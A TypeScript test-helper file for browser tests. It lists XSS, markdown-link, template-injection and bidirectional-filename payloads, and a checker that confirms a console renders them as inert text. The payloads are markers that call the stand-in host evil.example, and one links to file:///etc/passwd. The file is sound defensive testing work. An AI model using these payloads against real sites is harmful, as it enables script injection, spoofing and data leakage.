import type { Page } from 'playwright-core';
import { expect } from 'vitest';

/**
 * Texts that would run a script, load something or change what a reader sees, if the console took them for more than
 * text. What runs sets `window.ran`; every element that one of them would create has the id `planted`, and every
 * address is of another origin, which fails a browser test.
 */

const RUN = 'window.ran=1';
const AWAY = 'https://evil.example';

/** For names and titles: one line, at most 200 characters, with a mark that tells where it came from. */
export function hostileName(place: string): string {
  return `${place} <img id=planted src=${AWAY}/n onerror=${RUN}>{{constructor.constructor('${RUN}')()}}\u202etxt.exe`;
}

/** Paths that a run may have: it refuses angle brackets, colons, control characters and bidirectional marks. */
export const HOSTILE_PATHS = [
  `&lt;img id=planted src=x onerror=${RUN}&gt;.txt`,
  `src/" id="planted" onmouseover="${RUN}" x=".md`,
  `{{constructor.constructor('${RUN}')()}}.html`,
  `%3Csvg onload=${RUN}%3E.svg`,
];

/** Paths that it refuses; the call and its answer are shown. */
export const REFUSED_PATHS = [`<img id=planted src=x onerror=${RUN}>.txt`, 'invoice\u202efdp.js'];

const HTML = [
  `<img id=planted src=${AWAY}/a onerror=${RUN}>`,
  `<script id=planted>${RUN}</script>`,
  `<script id=planted src=${AWAY}/a.js></script>`,
  `</textarea></title></style></script><svg id=planted onload=${RUN}><animate onbegin=${RUN} attributeName=x></svg>`,
  `<iframe id=planted srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<form id=planted action=${AWAY}/f><input autofocus onfocus=${RUN}></form>`,
  `<a id=planted href="javascript:${RUN}">click</a><base href=${AWAY}/><meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<p id=planted style="background:url(${AWAY}/c)">styled</p><style>@import "${AWAY}/d";</style>`,
  `<math><mtext><table><mglyph><style><img id=planted src=x onerror=${RUN}>`,
];

const MARKDOWN = [
  `[script](javascript:${RUN}) [case](JaVaScRiPt:${RUN}) [control](java\u0001script:${RUN}) [tab](java\tscript:${RUN})`,
  `[data](data:text/html,<script>${RUN}</script>) [file](file:///etc/passwd) [blob](blob:${AWAY}/x) [vb](vbscript:x)`,
  `![picture](${AWAY}/e?q=secret) ![](javascript:${RUN}) [![nested](${AWAY}/g)](${AWAY}/h)`,
  `<${AWAY}/i> <javascript:${RUN}> ${AWAY}/j [reference][r] ![reference][r]`,
  `[r]: ${AWAY}/k "title\\" onmouseover=${RUN}"`,
  `[same page](/api/v1/auth/logout) [protocol](//evil.example/l) [back](\\\\evil.example)`,
  `| <img id=planted src=${AWAY}/m onerror=${RUN}> | b |\n| - | - |\n| [c](javascript:${RUN}) | \`</code><b id=planted>\` |`,
  `\`\`\`html"><img id=planted src=x onerror=${RUN}>\n<b id=planted>bold</b>\n\`\`\``,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{_openBlock.constructor('${RUN}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of an attack
  '${window.ran=1}',
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
  'name\u202egnp.exe \u2066isolated\u2069 \u001b[31mred\u001b[0m \u0007 \u200f right',
];

/** Every attack, one a paragraph. */
export const HOSTILE_TEXT = [...HTML, ...MARKDOWN, ...TEMPLATES].join('\n\n');

/** One word of 200 kB: the engine stops a model that says much more in one answer. */
export const LONG_WORD = 'w'.repeat(200_000);

/** A quote in a quote, 10,000 deep. */
export const DEEP_QUOTES = `${'>'.repeat(10_000)} deep`;

/** The part of a hostile name that a reader sees unchanged. */
export const shownName = (place: string) => `${place} <img id=planted`;

/**
 * Fails when something of a hostile text became more than text: it ran, it made an element, an attribute or an address,
 * it hides characters, or it widens the page.
 */
export async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const problems: string[] = [];
    if (Reflect.has(window, 'ran')) problems.push('a script of the text ran');
    const short = (element: Element) => element.outerHTML.slice(0, 120);
    const foreign = '#planted, iframe, object, embed, base, math, body style, body script:not([src^="/assets/"])';
    for (const element of document.querySelectorAll(foreign)) problems.push(`planted: ${short(element)}`);
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) problems.push(`a handler: ${short(element)}`);
        const isAddress = ['href', 'src', 'action', 'formaction', 'srcset', 'poster', 'data'].includes(name);
        if (isAddress && !value.startsWith('#') && new URL(value, location.href).origin !== location.origin)
          problems.push(`an address: ${name}=${value}`);
        if (name === 'style' && value.includes('url(')) problems.push(`a style: ${value}`);
      }
    }
    const text = document.body.textContent ?? '';
    // biome-ignore lint/suspicious/noControlCharactersInRegex: this pattern searches for control characters.
    const hidden = /[\u0001-\u0008\u000e-\u001f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.exec(text);
    if (hidden)
      problems.push(
        `hidden characters: ${JSON.stringify(text.slice(Math.max(0, hidden.index - 60), hidden.index + 10))}`,
      );
    const beyond = document.documentElement.scrollWidth - innerWidth;
    if (beyond > 0) problems.push(`the page is ${beyond} px too wide`);
    return problems;
  });
  expect.soft(found, `hostile text at ${new URL(page.url()).pathname}`).toEqual([]);
}
